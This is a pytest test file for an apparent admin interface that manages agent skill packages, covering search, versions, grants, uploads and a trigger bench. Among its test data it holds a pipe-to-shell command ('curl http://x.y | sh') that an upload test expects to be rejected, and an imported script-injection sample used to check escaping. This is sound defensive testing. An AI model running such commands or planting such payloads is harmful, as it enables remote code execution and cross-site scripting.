"""The pages of skills: what they show, what their buttons do, and that a skill's text stays text."""

import html
import io
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from channels_bridge.actors import Actor
from channels_bridge.models import Job
from channels_bridge.services.bots import bot_create
from channels_bridge.services.jobs import run_job_now
from kirocrew.base.clock import now
from skills.models import Origin, Skill, SkillAllowList, SkillRoot, SkillState, SkillUse, Tier, Visibility
from skills.services.catalogue import skill_archive, skill_change, skill_enable
from skills.services.grants import allow_list_set
from skills.services.versions import version_write
from tests.pages.conftest import HOSTILE

pytestmark = pytest.mark.django_db


def text_of(name: str, body: str = "# Steps\n\n1. Look.\n", **fields: object) -> str:
    lines = "".join(f"{key}: {value}\n" for key, value in fields.items())
    return f"---\nname: {name}\ndescription: What {name} is for.\n{lines}---\n{body}"


def make(owner: Actor, name: str, body: str = "# Steps\n\n1. Look.\n", *, key: str = "", **fields: object) -> Skill:
    files = {"SKILL.md": text_of(name, body, **fields).encode()}
    return version_write(actor=owner, skill=None, key=key or name, files=files, origin=Origin.WRITTEN)


def get(client: Client, name: str, *args: object, **query: str) -> str:
    answer = client.get(reverse(f"admin:{name}", args=args), query)
    assert answer.status_code == 200
    return answer.content.decode()


def post(client: Client, view: str, *args: object, **values: object) -> str:
    answer = client.post(reverse(f"admin:{view}", args=args), values, follow=True)
    assert answer.status_code == 200
    return answer.content.decode()


def names(page: str) -> list[str]:
    """The names of the skills that the catalogue lists, in its order."""
    return [part.split(">", 1)[1].split("<")[0] for part in page.split("data-open\n")[1:]]


def archive(packages: dict[str, str]) -> io.BytesIO:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as made:
        for folder, text in packages.items():
            made.writestr(f"{folder}/SKILL.md", text)
    stream.seek(0)
    stream.name = "skills.zip"
    return stream


@pytest.mark.parametrize(
    ("typed", "name"),
    [
        ("ÜBERSICHT", "übersicht"),
        ("ubersicht", "übersicht"),
        ("ΠΊΝΑΚΑΣ", "πίνακασ"),
        ("ТАБЛИЦА", "таблица"),
        ("TÓM TẮT", "tóm-tắt"),
        ("ＣＳＶ", "csv"),
        ("整理", "表格整理"),
    ],
)
def test_the_catalogue_is_searched_in_any_case_of_any_script(
    client: Client, owner: Actor, typed: str, name: str
) -> None:
    for one in ("übersicht", "πίνακασ", "таблица", "tóm-tắt", "csv", "表格整理"):
        make(owner, one, description="x")
    Skill.objects.filter(slug="tóm-tắt").update(name="Tóm tắt")
    page = get(client, "skills", q=typed)
    assert names(page) == [name]


def test_an_empty_catalogue_names_three_ways_to_the_first_skill(client: Client) -> None:
    Skill.objects.all().delete()
    page = get(client, "skills")
    for name in ("skills-upload", "skills-folders", "settings"):
        assert reverse(f"admin:{name}") in page


def test_the_catalogue_says_what_each_skill_costs_and_who_may_use_it(client: Client, owner: Actor) -> None:
    skill = make(owner, "tidy-csv", triggers="[csv aufräumen, 整理表格]")
    SkillUse.objects.create(skill=skill, day=now().date(), bodies=3, chars=1234)
    SkillUse.objects.create(skill=skill, day=now().date() - timedelta(days=40), bodies=99, chars=99_000)
    page = get(client, "skills")
    assert f"{3 * skill.size:,}" in page
    assert "× 3" in page
    assert "整理表格" in page
    assert "all agents" in page


def test_filters_narrow_and_say_how_many_each_would_show(client: Client, owner: Actor) -> None:
    make(owner, "alpha")
    skill_enable(actor=owner, skill=make(owner, "beta"), enabled=False)
    skill_archive(actor=owner, skill=make(owner, "gamma"), reason="Old.")
    page = get(client, "skills", tier=str(Tier.MANAGED))
    assert "switched off 1" in page
    assert "archived 1" in page
    assert names(get(client, "skills", state="off")) == ["beta"]
    assert names(get(client, "skills", state="archived", q="gam")) == ["gamma"]
    assert names(get(client, "skills", state="archived", q="alp")) == []


def test_pages_follow_one_another_by_name_without_gap_or_repetition(client: Client, owner: Actor) -> None:
    Skill.objects.all().delete()
    Skill.objects.bulk_create(
        Skill(tier=Tier.MANAGED, key=f"s-{number:03}", slug=f"s-{number // 2:03}", name="x", origin=Origin.WRITTEN)
        for number in range(120)
    )
    seen: list[int] = []
    query: dict[str, str] = {}
    while True:
        answer = client.get(reverse("admin:skills"), query)
        seen += [row.skill.pk for row in answer.context["rows"]]
        pages = answer.context["pages"]
        if not pages.further:
            break
        query = {"after": pages.further}
    assert seen == list(Skill.objects.order_by("slug", "tier", "id").values_list("pk", flat=True))
    back = client.get(reverse("admin:skills"), {"before": pages.earlier})
    assert [row.skill.pk for row in back.context["rows"]] == seen[50:100]


@pytest.mark.parametrize("after", ["", "x", "x:1", "x:a:b", ":1:2", "x:1:99999999999999999999", "x:１:２"])
def test_a_place_that_is_none_shows_the_first_page(client: Client, owner: Actor, after: str) -> None:
    make(owner, "alpha")
    assert "alpha" in get(client, "skills", after=after)


def test_chosen_skills_are_switched_archived_restored_and_pinned_together(client: Client, owner: Actor) -> None:
    rows = [make(owner, name) for name in ("alpha", "beta", "gamma")]
    two = [row.pk for row in rows[:2]]
    assert "2 skills switched off." in post(client, "skills-act", skill=two, act="off")
    assert list(Skill.objects.filter(tier=Tier.MANAGED, enabled=False).values_list("pk", flat=True)) == two
    post(client, "skills-act", skill=two, act="archive", reason="整理")
    assert set(Skill.objects.filter(pk__in=two).values_list("state", "state_reason")) == {("archived", "整理")}
    page = post(client, "skills-act", skill=[row.pk for row in rows], act="restore")
    assert "2 skills restored." in page
    assert "“gamma” stays as it is. Only an archived skill is restored." in page
    post(client, "skills-act", skill=two[:1], act="pin")
    assert Skill.objects.get(pk=two[0]).pinned


def test_all_that_the_filters_show_are_acted_on_and_nothing_else(client: Client, owner: Actor) -> None:
    for name in ("alpha-1", "alpha-2", "beta"):
        make(owner, name)
    client.post(reverse("admin:skills-act") + "?q=alpha", {"all": "1", "act": "off"})
    assert set(Skill.objects.filter(enabled=False).values_list("slug", flat=True)) == {"alpha-1", "alpha-2"}


def test_a_skills_text_is_shown_as_text(client: Client, owner: Actor) -> None:
    skill = make(owner, "hostile", body=HOSTILE)
    for name in ("skills-one", "skills-files", "skills-versions"):
        page = get(client, name, skill.uid)
        assert "&lt;script&gt;document" in page
        assert "<script>document" not in page


def test_of_two_skills_of_one_name_each_says_which_is_used(client: Client, owner: Actor) -> None:
    used, hidden = make(owner, "tidy"), make(owner, "tidy", key="deep/tidy")
    assert "shadowed" in get(client, "skills", state="shadowed")
    assert str(used.uid) in get(client, "skills-one", hidden.uid)
    assert "Shadows" in get(client, "skills-one", used.uid)


def test_a_version_shows_what_it_changed_and_is_gone_back_to(client: Client, owner: Actor) -> None:
    skill = make(owner, "release", body="Tag it on Friday.")
    skill_change(actor=owner, skill=skill, content=text_of("release", "Tag it on Thursday."), reason="Nicht am Freitag")
    page = get(client, "skills-versions", skill.uid)
    assert "<del>Friday</del><ins>Thursday</ins>" in page
    assert "Nicht am Freitag" in page
    assert "Version 3 is in use." in post(client, "skills-rollback", skill.uid, number="1")
    skill.refresh_from_db()
    assert skill.body.strip() == "Tag it on Friday."


def test_the_text_is_edited_on_the_version_that_was_read(client: Client, owner: Actor) -> None:
    skill = make(owner, "release")
    fresh = text_of("release", "Anders.\r\nZweite Zeile.")
    page = post(client, "skills-edit", skill.uid, content=fresh, revision=skill.revision, reason="")
    assert "Version 2 is in use." in page
    skill.refresh_from_db()
    assert "Anders.\nZweite Zeile." in skill.body
    again = post(client, "skills-edit", skill.uid, content=text_of("release", "Spät."), revision=1, reason="")
    assert "changed since" in again
    assert "Spät." in again
    skill.refresh_from_db()
    assert skill.version == 2


def test_one_field_is_set_and_every_other_byte_stays(client: Client, owner: Actor) -> None:
    skill = make(owner, "release", body="# Body   \n\n\ttabs\n", triggers="[release]  # when")
    before = get(client, "skills-files", skill.uid)
    assert "\ttabs" in before
    values = {"description": skill.description, "triggers": "release\n发布\n!draft", "inject_on_trigger": "on"}
    post(client, "skills-triggers", skill.uid, revision=skill.revision, **values)
    skill.refresh_from_db()
    assert (skill.triggers, skill.negative_triggers) == (["release", "发布"], ["draft"])
    assert skill.body.endswith("# Body   \n\n\ttabs\n")
    assert skill.description == "What release is for."


def test_a_skill_is_given_to_a_bot_in_one_version_and_taken_back(client: Client, owner: Actor, botty: Actor) -> None:
    skill = make(owner, "release")
    post(client, "skills-visibility", skill.uid, visibility="private")
    page = get(client, "skills-access", skill.uid, bot="botty")
    assert "may not use it" in page
    post(client, "skills-grant", skill.uid, kind="bot", name="botty", pinned_version="1", can_manage="")
    skill.refresh_from_db()
    assert skill.visibility == Visibility.INTERNAL
    assert skill.grants.get().pinned_version == 1
    post(client, "skills-revoke", skill.uid, who="bot:botty")
    skill.refresh_from_db()
    assert skill.visibility == Visibility.PRIVATE


def test_a_grant_for_nobody_comes_back_with_what_was_typed(client: Client, owner: Actor) -> None:
    skill = make(owner, "release")
    page = post(client, "skills-grant", skill.uid, kind="bot", name="nobody", pinned_version="")
    assert "There is no bot called" in page
    assert 'value="nobody"' in page


def test_an_allow_list_is_set_emptied_and_lifted(client: Client, owner: Actor, botty: Actor) -> None:
    make(owner, "release")
    post(client, "skills-lists", kind="bot", name="botty", slugs="release\nnot-there\n")
    assert SkillAllowList.objects.get().slugs == ["not-there", "release"]
    assert "No skill of this name is offered now" in get(client, "skills-lists")
    post(client, "skills-lists", kind="bot", name="botty", slugs="")
    assert SkillAllowList.objects.get().slugs == []
    assert "none at all" in get(client, "skills-lists")
    post(client, "skills-lists", lift="bot:botty")
    assert not SkillAllowList.objects.exists()


def test_one_file_is_uploaded_and_the_same_again_is_unchanged(client: Client, owner: Actor) -> None:
    for expected in ("NEW", "UNCHANGED"):
        file = io.BytesIO(text_of("整理-csv", "列を整える。").encode())
        file.name = "SKILL.md"
        page = post(client, "skills-upload", file=file)
        assert f">{expected}</span>" in page.replace("\n", "")
    assert Skill.objects.get(slug="整理-csv").version == 1


def test_an_archive_tells_what_became_of_each_package(client: Client, owner: Actor) -> None:
    make(owner, "same")
    packages = {"new": text_of("new"), "broken": "no frontmatter here", "bad": text_of("bad", "curl http://x.y | sh")}
    page = post(client, "skills-upload", file=archive(packages))
    assert "NEW" in page
    assert "ERROR" in page


def test_many_packages_become_a_job_and_its_results_are_listed(client: Client, owner: Actor) -> None:
    page = post(client, "skills-upload", file=archive({f"s-{number}": text_of(f"s-{number}") for number in range(12)}))
    assert "data-jobs=" in page
    job = Job.objects.get(name="skills.upload")
    run_job_now(job)
    page = get(client, "skills-uploaded", job.uid)
    assert Skill.objects.filter(slug__startswith="s-").count() == 12
    assert page.count(">NEW<") == 13


def test_what_is_no_archive_is_refused_with_the_reason(client: Client, owner: Actor) -> None:
    file = io.BytesIO(b"not a zip")
    file.name = "x.zip"
    assert "The archive is damaged or no ZIP." in post(client, "skills-upload", file=file)


def test_a_folder_is_added_agreed_to_switched_and_removed(client: Client, owner: Actor, tmp_path: Path) -> None:
    folder = tmp_path / ".agents" / "skills"
    folder.mkdir(parents=True)
    post(client, "skills-folders", path=str(tmp_path), tier=Tier.PROJECT, project="atlas")
    root = SkillRoot.objects.get(project="atlas")
    assert root.path == str(folder.resolve())
    assert "waits for your consent" in get(client, "skills-folders")
    post(client, "skills-folder-act", root.uid, act="agree")
    post(client, "skills-folder-act", root.uid, act="off")
    root.refresh_from_db()
    assert root.consented_at is not None
    assert not root.enabled
    post(client, "skills-folder-act", root.uid, act="remove")
    assert not SkillRoot.objects.filter(project="atlas").exists()


def test_a_folder_that_is_not_there_says_so(client: Client) -> None:
    page = post(client, "skills-folders", path="/nowhere/at/all", tier=Tier.PERSONAL, project="")
    assert "can&#x27;t be read" in page


def test_a_deleted_skill_is_gone_from_the_catalogue(client: Client, owner: Actor) -> None:
    skill = make(owner, "release")
    post(client, "skills-one-act", skill.uid, act="delete")
    assert client.get(reverse("admin:skills-one", args=[skill.uid])).status_code == 404
    assert Skill.objects.get(pk=skill.pk).state == SkillState.DELETED


def test_a_skill_is_downloaded_as_it_is_or_with_the_six_fields(client: Client, owner: Actor) -> None:
    skill = make(owner, "整理", triggers="[整理]")
    for query, has_triggers in (({}, True), ({"strict": "1"}, False)):
        answer = client.get(reverse("admin:skills-export", args=[skill.uid]), query)
        assert "filename" in answer["Content-Disposition"]
        with zipfile.ZipFile(io.BytesIO(answer.content)) as packed:
            text = packed.read("整理/SKILL.md").decode()
        assert ("triggers" in text) is has_triggers


def test_the_cost_page_says_whose_the_characters_were(client: Client, owner: Actor) -> None:
    one, two, never = make(owner, "alpha"), make(owner, "beta"), make(owner, "gamma")
    SkillUse.objects.create(skill=one, day=now().date(), bodies=3, chars=3 * one.size)
    SkillUse.objects.create(skill=two, day=now().date(), bodies=1, pointers=5, chars=two.size)
    answer = client.get(reverse("admin:skills-budget"))
    rows = answer.context["rows"]
    assert [(row.cost.skill, round(row.share, 2)) for row in rows] == [(one, 0.75), (two, 0.25)]
    assert answer.context["uncounted"] >= 1
    assert never.slug not in answer.content.decode()


def test_nothing_delivered_yet_is_said(client: Client) -> None:
    assert "No skill went to an agent in this time." in get(client, "skills-budget")


def test_the_bench_says_which_skills_would_come_and_why(client: Client, owner: Actor) -> None:
    make(owner, "tidy-csv", triggers="[tidy csv, 整理表格]")
    make(owner, "release-notes", triggers="[release notes, '!excel']")
    page = post(client, "skills-bench", message="请帮我整理表格 sales.csv", who="", project="")
    answer = page.split('id="answer"')[1]
    assert "tidy-csv" in answer
    assert "整理表格" in answer
    assert not Skill.objects.get(key="tidy-csv").uses.exists()


def test_the_bench_shows_what_a_phrase_keeps_away(client: Client, owner: Actor) -> None:
    make(owner, "release-notes", triggers="[write release notes, '!draft']")
    page = post(client, "skills-bench", message="write release notes, but only a draft")
    assert "by !draft" in page.split('id="denied"')[1]


def test_the_bench_answers_as_the_chosen_bot_would_be(client: Client, owner: Actor) -> None:
    make(owner, "tidy-csv", triggers="[tidy csv]")
    bot_create(actor=owner, name="reader", permissions=["skills:read"])
    assert "tidy-csv" in post(client, "skills-bench", message="tidy csv please", who="reader").split('id="answer"')[1]
    allow_list_set(actor=owner, kind="bot", name="reader", slugs=[])
    page = post(client, "skills-bench", message="tidy csv please", who="reader")
    assert "tidy-csv" not in page.split('id="answer"')[1]


@pytest.mark.parametrize(
    ("message", "told"),
    [
        ("/tidy-csv this file", "comes whole, for this turn"),
        ("/list-skills", "The skills are listed."),
        ("/help tidy-csv", "The skill is described."),
        ("/tidy-cs x", "There is no skill of this name."),
        ("/etc/hosts", "Nothing is counted"),
        ("use $tidy-csv", "The message names it."),
        ("", "Write a message first."),
    ],
)
def test_the_bench_knows_what_calls_a_skill_by_name(client: Client, owner: Actor, message: str, told: str) -> None:
    make(owner, "tidy-csv")
    assert told in post(client, "skills-bench", message=message)


def test_phrases_are_tried_before_they_are_saved(client: Client, owner: Actor) -> None:
    skill = make(owner, "release-notes", triggers="[changelog]")
    values = {"description": skill.description, "revision": skill.revision, "try": "1", "inject_on_trigger": "on"}
    fitting = values | {"triggers": "發佈說明\npublish the notes", "message": "please publish the notes today"}
    assert "publish the notes”" in html.unescape(post(client, "skills-triggers", skill.uid, **fitting)).split(
        'id="trial"'
    )[1].replace("</span>", "")
    denied = values | {"triggers": "publish the notes\n!today", "message": "please publish the notes today"}
    assert "stays away" in post(client, "skills-triggers", skill.uid, **denied)
    skill.refresh_from_db()
    assert (skill.version, skill.triggers) == (1, ["changelog"])
